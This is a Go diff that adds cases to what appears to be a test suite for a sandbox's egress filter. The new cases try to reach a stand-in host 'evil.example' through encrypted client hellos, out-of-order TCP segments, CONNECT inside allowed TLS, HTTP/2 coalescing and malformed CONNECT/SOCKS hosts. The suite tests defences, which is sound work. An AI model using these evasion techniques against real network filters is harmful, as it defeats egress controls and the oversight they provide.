@@ -3,6 +3,9 @@ package egress
 import (
 	"bufio"
 	"bytes"
+	"context"
+	"crypto/ecdh"
+	"crypto/rand"
 	"crypto/tls"
 	"encoding/binary"
 	"errors"
@@ -20,9 +23,13 @@ import (
 
 // hello returns a TLS client's hello for a name, in one record.
 func hello(name string, protos ...string) []byte {
+	return helloOf(&tls.Config{ServerName: name, InsecureSkipVerify: true, NextProtos: protos}) //nolint:gosec // never finished
+}
+
+func helloOf(config *tls.Config) []byte {
 	a, b := net.Pipe()
 	go func() {
-		_ = tls.Client(a, &tls.Config{ServerName: name, InsecureSkipVerify: true, NextProtos: protos}).Handshake() //nolint:gosec // never finished
+		_ = tls.Client(a, config).Handshake()
 		a.Close()
 	}()
 	defer b.Close()
@@ -35,6 +42,27 @@ func hello(name string, protos ...string) []byte {
 		return nil
 	}
 	return append(head, body...)
+}
+
+// encrypted returns a hello whose name inside is encrypted with a key of the
+// host outside.
+func encrypted(outside, inside string) []byte {
+	return helloOf(&tls.Config{ServerName: inside, MinVersion: tls.VersionTLS13, EncryptedClientHelloConfigList: echKeys(outside)})
+}
+
+// echKeys is what a host publishes so that hellos can be encrypted for it, as
+// RFC 9849 has it.
+func echKeys(outside string) []byte {
+	key, err := ecdh.X25519().GenerateKey(rand.Reader)
+	if err != nil {
+		return nil
+	}
+	public := key.PublicKey().Bytes()
+	body := append([]byte{1, 0, 0x20, 0, byte(len(public))}, public...)
+	body = append(body, 0, 4, 0, 1, 0, 1, 32, byte(len(outside))) // HKDF-SHA256 with AES-128-GCM
+	body = append(append(body, outside...), 0, 0)
+	config := append([]byte{0xfe, 0x0d, 0, byte(len(body))}, body...)
+	return append([]byte{0, byte(len(config))}, config...)
 }
 
 // inRecords puts a handshake into records of size bytes.
@@ -121,9 +149,33 @@ func tlsAttacks() []attack {
 		{"tls", "encrypted-hello", "a hello whose true name is encrypted", func(f *field, _ string) error {
 			return f.says(f.name, good4+":443", withExtension(f.t, "good.example", extensionECH))
 		}},
+		{"tls", "encrypted-hello-with-keys", "a foreign name encrypted with keys that came another way, behind an allowed one, to the addresses of both", func(f *field, _ string) error {
+			for _, a := range []string{good4, evil4} {
+				for _, b := range [][]byte{encrypted("good.example", "evil.example"), encrypted("evil.example", "good.example")} {
+					if err := f.says(f.name, a+":443", b); err != nil {
+						return err
+					}
+				}
+			}
+			return nil
+		}},
 		{"tls", "in-2-segments", "a foreign name, the hello in 2 segments", split(2)},
 		{"tls", "in-7-segments", "a foreign name, the hello in 7 segments", split(7)},
 		{"tls", "in-50-segments", "a foreign name, the hello in 50 segments", split(50)},
+		{"tls", "out-of-order", "a foreign name, the later half of the hello first; an allowed one in the same way shows that it is understood", func(f *field, _ string) error {
+			if err := f.outOfOrder(evil()); err != nil {
+				return err
+			}
+			if err := f.outOfOrder(hello("good.example")); err != nil {
+				return err
+			}
+			for end := time.Now().Add(wait); f.ears[0].heard(func(b []byte) bool { return bytes.Contains(b, []byte("good.example")) }) == nil; time.Sleep(time.Millisecond) {
+				if time.Now().After(end) {
+					return errors.New("the allowed hello did not arrive, so nothing is proven")
+				}
+			}
+			return nil
+		}},
 		{"tls", "over-records", "a foreign name over the borders of records of 1, 3 and 50 bytes", func(f *field, _ string) error {
 			h := evil()
 			for _, n := range []int{1, 3, 50} {
@@ -184,10 +236,49 @@ func tlsAttacks() []attack {
 		{"tls", "list-policy", "an allowed name under a policy of networks does not open the attacker's address", func(f *field, mark string) error {
 			return f.reaches(f.list, "tcp", evil4+":443", string(hello("good.example")))
 		}},
-		{"tls", "coalescing", "a second host over the HTTP/2 connection of an allowed one stays with the first one's host", func(f *field, _ string) error {
+		{"tls", "fronting", "a foreign host in a request within the TLS of an allowed one: only the allowed name's host may see it", func(f *field, _ string) error {
 			got, err := inside(f.name, "good.example", "evil.example")
 			if err == nil && !strings.Contains(got, "good served") {
 				return fmt.Errorf("%q", got)
+			}
+			return nil
+		}},
+		{"tls", "relayed-connect", "CONNECT to a foreign host within the TLS of an allowed one, which is no relay", func(f *field, mark string) error {
+			c, err := connect(f.name, "tcp", good4+":443", wait)
+			if err != nil {
+				return err
+			}
+			defer c.Close()
+			_ = c.SetDeadline(time.Now().Add(wait))
+			k := tls.Client(c, &tls.Config{ServerName: "good.example", InsecureSkipVerify: true}) //nolint:gosec // the test's own certificate
+			fmt.Fprintf(k, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n%s", mark)
+			_, _ = k.Read(make([]byte, 100))
+			return nil
+		}},
+		{"tls", "coalescing", "requests for a second host over the HTTP/2 connection of an allowed one stay with the first one's host", func(f *field, _ string) error {
+			tr := &http.Transport{
+				ForceAttemptHTTP2: true,
+				TLSClientConfig:   &tls.Config{ServerName: "good.example", InsecureSkipVerify: true}, //nolint:gosec // the test's own certificate
+				DialContext: func(context.Context, string, string) (net.Conn, error) {
+					return connect(f.name, "tcp", evil4+":443", wait)
+				},
+			}
+			defer tr.CloseIdleConnections()
+			for _, host := range []string{"good.example", "evil.example"} {
+				req, err := http.NewRequest("GET", "https://good.example/x", nil)
+				if err != nil {
+					return err
+				}
+				req.Host = host
+				res, err := (&http.Client{Transport: tr, Timeout: wait}).Do(req)
+				if err != nil {
+					return err
+				}
+				b, _ := io.ReadAll(res.Body)
+				res.Body.Close()
+				if res.ProtoMajor != 2 || !strings.HasPrefix(string(b), "good served") {
+					return fmt.Errorf("%s over %s: %q", host, res.Proto, b)
+				}
 			}
 			return nil
 		}},
@@ -196,6 +287,29 @@ func tlsAttacks() []attack {
 			return f.send(f.name, udp4(f.name, evil4, 443, packet), udp4(f.name, good4, 443, packet), udp6(f.name, good6, 443, packet), udp4(f.name, evil4, 80, packet))
 		}},
 	}
+}
+
+// outOfOrder makes a connection to the attacker's web server and sends text in
+// two segments, the later one first, past the sandbox's kernel.
+func (f *field) outOfOrder(text []byte) error {
+	c, err := connect(f.name, "tcp", evil4+":443", wait)
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	seq, ack, err := numbers(c)
+	if err != nil {
+		return err
+	}
+	from, half := uint16(c.LocalAddr().(*net.TCPAddr).Port), len(text)/2
+	part := func(at int, b []byte) []byte {
+		return ip4(f.name, evil4, unix.IPPROTO_TCP, segment(f.name.Addr4, addr(evil4), from, 443, seq+uint32(at), ack, flagACK|flagPSH, string(b)))
+	}
+	if err := f.send(f.name, part(half, text[half:]), part(0, text[:half])); err != nil {
+		return err
+	}
+	time.Sleep(patience / 4) // for whatever comes of it
+	return nil
 }
 
 // inside asks for a host within the TLS connection of another.
@@ -270,6 +384,12 @@ func httpAttacks() []attack {
 		{"http", "unicode", "letters that look alike, and dots that are none", requests(host("gооd.example"), host("good\u3002evil\u3002example"), host("xn--gd-tmcd.example"), host("good.example\u00ad.evil.example"))},
 		{"http", "connect", "CONNECT to allowed and foreign hosts", requests("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\nMARK", "CONNECT good.example:443 HTTP/1.1\r\nHost: good.example:443\r\n\r\nMARK", "CONNECT good.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\nMARK")},
 		{"http", "socks", "SOCKS where HTTP is expected", requests("\x04\x01\x00\x50\xcb\x00\x71\x09MARK\x00", "\x05\x01\x00", "\x05\x01\x00\x03\x0cevil.example\x01\xbbMARK")},
+		{"http", "long-hosts", "CONNECT and SOCKS with a zero byte in the host, and hosts of 256 bytes and more", requests(
+			"CONNECT good.example\x00.evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\nMARK",
+			"CONNECT "+strings.Repeat("a.", 140)+"good.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\nMARK",
+			"\x05\x01\x00\x05\x01\x00\x03\x1bgood.example\x00.evil.exampleX\x01\xbbMARK", "\x05\x01\x00\x05\x01\x00\x03\xff"+strings.Repeat("a", 255)+"\x01\xbbMARK",
+			"\x04\x01\x01\xbb\x00\x00\x00\x01user\x00"+strings.Repeat("a.", 140)+"evil.example\x00MARK",
+			host(strings.Repeat("a.", 140)+"good.example"), host(strings.Repeat("a", 256)+".good.example"), host(strings.Repeat("a", 300)))},
 		{"http", "h2c", "HTTP/2 without TLS, with an authority of its own", requests("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK", "GET /MARK HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA\r\n\r\n")},
 		{"http", "smuggling", "a foreign request hidden in the body of an allowed one must not reach anybody as a request of its own", func(f *field, mark string) error {
 			for _, t := range []string{
